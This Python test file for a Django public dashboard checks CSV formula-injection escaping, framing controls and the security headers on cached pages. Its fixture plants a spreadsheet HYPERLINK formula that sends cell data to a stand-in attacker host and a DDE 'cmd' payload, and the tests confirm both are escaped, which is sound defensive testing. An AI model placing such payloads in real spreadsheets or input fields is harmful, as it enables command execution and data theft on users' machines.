"""Public pages under attack: formulas in the open data, framing by other sites, and the
same security headers on a page replayed from the cache as on the first one."""

import csv
import io

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled

from publicdash.publishing import publish
from scorecards.models import Measure
from strategyhub.models import Organization
from tests.conftest import clear_worker_cache

pytestmark = pytest.mark.usefixtures("clock")

SECURITY_HEADERS = (
    "Content-Security-Policy",
    "Permissions-Policy",
    "X-Frame-Options",
    "X-Content-Type-Options",
    "Referrer-Policy",
)


@pytest.fixture(autouse=True)
def _clear_cache():
    clear_worker_cache()


@pytest.fixture
def published(org_a, plan_a, objective_a, measure_a):
    with scopes_disabled():
        Measure.objects.filter(pk=measure_a.pk).update(
            name='=HYPERLINK("https://evil.example/?"&A1,"Click")'
        )
        objective_a.title = "@SUM(1+1)*cmd|' /C calc'!A0"
        objective_a.save()
        return publish(org_a.org, by=org_a.admin)


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_formulas_in_names_come_out_of_the_csv_as_text(client, published):
    for url in (
        reverse("public:data_csv", args=["alpha"]),
        reverse("public:data_csv", args=["alpha"]),  # again, from the fast path
    ):
        rows = _rows(client.get(url))
        body = rows[1:]
        assert body
        for row in body:
            assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
            assert row[3] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


def _headers(response):
    return {name: response.get(name) for name in SECURITY_HEADERS}


@pytest.mark.parametrize("page", ["public:home", "public:data_csv"])
def test_a_replayed_public_page_has_the_headers_of_the_first(client, published, page):
    url = reverse(page, args=["alpha"])
    first = client.get(url)
    again = client.get(url, headers={"Accept-Encoding": "gzip"})
    assert first.status_code == again.status_code == 200
    assert again.get("Content-Encoding") == "gzip"  # answered by the fast path
    assert _headers(first) == _headers(again)
    assert "frame-ancestors 'none'" in first["Content-Security-Policy"]
    assert first["X-Frame-Options"] == "DENY"
    assert "camera=()" in first["Permissions-Policy"]


def test_public_pages_may_be_framed_by_the_listed_origins_only(client, published, org_a):
    Organization.objects.filter(pk=org_a.org.pk).update(
        embed_origins=["https://www.alpha.gov", "https://maps.alpha.gov:8443"]
    )
    url = reverse("public:home", args=["alpha"])
    first = client.get(url)
    again = client.get(url)
    for response in (first, again):
        policy = response["Content-Security-Policy"]
        assert "frame-ancestors https://www.alpha.gov https://maps.alpha.gov:8443" in policy
        assert "X-Frame-Options" not in response  # DENY would contradict the allow-list
    assert _headers(first) == _headers(again)
    # Staff pages are never framed, whatever the agency lists.
    client.force_login(org_a.admin)
    staff = client.get(reverse("scorecards:plan", args=["alpha"]))
    assert "frame-ancestors 'none'" in staff["Content-Security-Policy"]
    assert staff["X-Frame-Options"] == "DENY"


def test_changing_the_embed_origins_reaches_pages_already_cached(client, published, org_a):
    url = reverse("public:home", args=["alpha"])
    client.get(url)
    assert "frame-ancestors 'none'" in client.get(url)["Content-Security-Policy"]
    client.force_login(org_a.admin)
    response = client.post(
        reverse("agency:settings", args=["alpha"]),
        {
            "name": "Agency Alpha",
            "timezone": "America/Chicago",
            "fiscal_year_start_month": 7,
            "embed_origins": "https://www.alpha.gov/\nhttps://WWW.alpha.gov",
        },
    )
    assert response.status_code == 302
    org_a.org.refresh_from_db()
    assert org_a.org.embed_origins == ["https://www.alpha.gov"]
    client.logout()
    for _ in range(2):
        policy = client.get(url)["Content-Security-Policy"]
        assert "frame-ancestors https://www.alpha.gov" in policy
